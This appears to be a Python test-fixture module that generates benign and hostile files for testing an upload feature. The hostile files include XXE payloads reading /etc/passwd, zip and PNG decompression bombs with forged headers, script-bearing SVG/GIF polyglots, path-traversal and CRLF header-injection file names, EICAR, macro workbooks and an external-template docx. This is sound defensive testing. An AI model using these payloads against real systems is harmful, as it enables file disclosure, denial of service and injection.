"""Files to upload: whole documents and images, and the twelve hostile ones. Made here, so that no
hostile file is kept."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

RAN = "FIENTLIG-KOD-KORS"
"""What each script in a hostile file says on the console and as a dialog, should it ever run."""
SCRIPT = f"console.error('{RAN}');alert('{RAN}')"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

_OFFICE = "application/vnd.openxmlformats-officedocument"
_MAIN = {
    "docx": ("word/document.xml", f"{_OFFICE}.wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OFFICE}.presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OFFICE}.spreadsheetml.sheet.main+xml"),
}
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NO_RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
)


def office(kind, *, main=None, main_name=None, main_type=None, parts=None, defaults=""):
    """A small docx, pptx or xlsx, or one with something else in it."""
    name, content_type = _MAIN[kind]
    name = main_name or name
    types = (
        '<?xml version="1.0"?><Types '
        'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{defaults}'
        f'<Override PartName="/{name}" ContentType="{main_type or content_type}"/></Types>'
    )
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": _NO_RELATIONSHIPS,
            name: main or '<?xml version="1.0"?><document/>',
            **(parts or {}),
        }
    )


def relationship(kind, target="https://ond.example/x", mode="External", family=RELATIONSHIPS):
    """The part of a docx that tells what belongs to it, with one thing in it."""
    return (
        '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{family}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def default(extension, content_type):
    return f'<Default Extension="{extension}" ContentType="{content_type}"/>'


def zipped(parts, method=ZIP_DEFLATED):
    file = BytesIO()
    with ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def forged(content, name, *, places=("directory",), **told):
    """The archive with other figures told of a part (``crc``, ``packed``, ``unpacked``): in the
    central directory, in the local header in front of the part, or in both."""
    content = bytearray(content)
    with ZipFile(BytesIO(content)) as archive:
        header = archive.getinfo(name).header_offset
    figures = {
        "directory": content.rindex(name.encode()) - 46 + 16,
        "header": header + 14,
    }
    for place in places:
        for key, value in told.items():
            at = figures[place] + 4 * ("crc", "packed", "unpacked").index(key)
            content[at : at + 4] = struct.pack("<I", value)
    return bytes(content)


def pdf(text=""):
    return (
        f"%PDF-1.4\n{text}\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF".encode()
    )


def image(kind="PNG", size=(40, 30), colour="teal"):
    file = BytesIO()
    Image.new("RGB", size, colour).save(file, kind)
    return file.getvalue()


def _chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width, height, *extra, pixels=b""):
    """A PNG that says it is so large, with more chunks before its pixels."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rest = b"".join(_chunk(*one) for one in extra) + _chunk(b"IDAT", zlib.compress(pixels))
    return b"\x89PNG\r\n\x1a\n" + head + rest + _chunk(b"IEND", b"")


def text_bomb():
    """A PNG of one pixel with a comment that unpacks to 100 MB."""
    comment = b"Comment\0\0" + zlib.compress(bytes(100 * 1024 * 1024), 9)
    return png(1, 1, (b"zTXt", comment), pixels=b"\0\0")


def polyglot():
    """A GIF that is also a script: everything between the magic number and the end is a comment."""
    return b"GIF89a/*" + image("GIF")[8:] + f"*/=1;{SCRIPT}//".encode()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'.encode()
HTML = f"<!doctype html><script>{SCRIPT}</script>".encode()
XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<document>&x;</document>"
)
XXE_UTF_16 = XXE.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
BOMB = office("docx", parts={"word/media/noll.bin": bytes(200 * 1024 * 1024)})
INFLATES = office("docx", parts={"word/media/noll.bin": bytes(60 * 1024 * 1024)})
THOUSAND = {"unpacked": 1000, "crc": zlib.crc32(bytes(1000))}
"""What the bomb tells of itself: its size, and the checksum of that much."""
RELATIONSHIPS_TYPE = "application/vnd.openxmlformats-package.relationships+xml"
MACRO = {
    "main_type": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "defaults": default("bin", "application/vnd.ms-office.vbaProject"),
    "parts": {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
}

FETCHES = {"word/_rels/settings.xml.rels": relationship("attachedTemplate")}
"""A template from elsewhere brings its macros with it."""

HOSTILE = {
    "polyglot GIF/JS": [("bild.gif", polyglot()), ("gif.jpg", polyglot()), ("gif.png", polyglot()),
                        ("gif.pdf", polyglot()), ("gif.js", polyglot())],
    "SVG script": [("bild.svg", SVG), ("svg.png", SVG), ("svg.pdf", SVG)],
    "zip bomb": [("bomb.docx", BOMB), ("bomb.zip", BOMB),
                 ("storlek.docx", forged(INFLATES, "word/media/noll.bin", unpacked=1000)),
                 ("summa.docx", forged(INFLATES, "word/media/noll.bin", **THOUSAND)),
                 ("allt.docx", forged(INFLATES, "word/media/noll.bin", **THOUSAND,
                                      places=("directory", "header")))],
    "XXE docx": [("brev.docx", office("docx", main=XXE)),
                 ("utf-16.docx", office("docx", main=XXE_UTF_16)),
                 ("lank.docx", office("docx", parts={"word/_rels/document.xml.rels": XXE})),
                 ("dat.docx", office("docx", main=XXE, main_name="word/document.dat")),
                 ("rel.docx", office("docx", parts={"word/_rels/document.rel": XXE})),
                 ("bin.docx", office("docx", parts={"word/_rels/document.bin": XXE_UTF_16},
                                     defaults=default("bin", RELATIONSHIPS_TYPE)))],
    "60k x 60k PNG": [("stor.png", png(60_000, 60_000)), ("ram.png", png(9_000, 9_000))],
    "HTML as .pdf": [("sida.pdf", HTML), ("sida.csv", HTML), ("sida.docx", HTML),
                     ("sida.jpg", HTML)],
    "..%2f": [("..%2f..%2fconfig%2fsettings.py", b"SECRET_KEY = ''"), ("..%2fx.html", HTML),
              ("../../x.svg", SVG)],
    "double extension": [("bild.png.html", HTML), ("brev.pdf.php", HTML), ("brev.php.pdf", HTML),
                         ("bild.svg.png", SVG)],
    "0-byte": [("tom.pdf", b""), ("tom.png", b""), ("tom.csv", b"")],
    "name with line break": [("brev\r\nSet-Cookie: x=1.html", HTML), ("bild\r\n.svg", SVG)],
    "EICAR": [("eicar.com", EICAR), ("eicar.pdf", EICAR), ("eicar.csv", EICAR),
              ("eicar.docx", EICAR), ("eicar.png", EICAR)],
    "macro xlsm": [("makro.xlsm", office("xlsx", **MACRO)), ("makro.xlsx", office("xlsx", **MACRO)),
                   ("gomd.xlsx", office("xlsx", parts=MACRO["parts"])),
                   ("mall.docx", office("docx", parts=FETCHES))],
}  # fmt: skip
"""The twelve, each in the dress that its name stands for and in others it could come in."""

WITH_MEDIA = {
    "main_name": "word/document2.xml",
    "defaults": default("png", "image/png") + default("odttf", f"{_OFFICE}.obfuscatedFont"),
    "parts": {
        "word/media/image1.png": image(),
        "word/fonts/font1.odttf": b"<\x8f" + bytes(range(256)) * 20,
    },
}
"""An image, and a font that is scrambled so that it can begin with any byte."""
LINK = relationship("hyperlink", "https://goteborg.se/")
GOOD_DOCUMENTS = {
    "Årsrapport för 2025.pdf": pdf(),
    "brev.docx": office("docx"),
    "med bild.docx": office("docx", **WITH_MEDIA),
    "med länk.docx": office("docx", parts={"word/_rels/document.xml.rels": LINK}),
    "bilder.pptx": office("pptx"),
    "kalkyl.XLSX": office("xlsx"),
    "antal.csv": "stadsdel;antal\r\nAngered;420\r\n".encode("utf-8-sig"),
    "komma.csv": b"a,b\n1,2\n",
}
GOOD_IMAGES = {
    "Möte på BVC.png": image("PNG"),
    "foto.JPG": image("JPEG"),
    "foto.jpeg": image("JPEG"),
    "liten.webp": image("WEBP"),
}
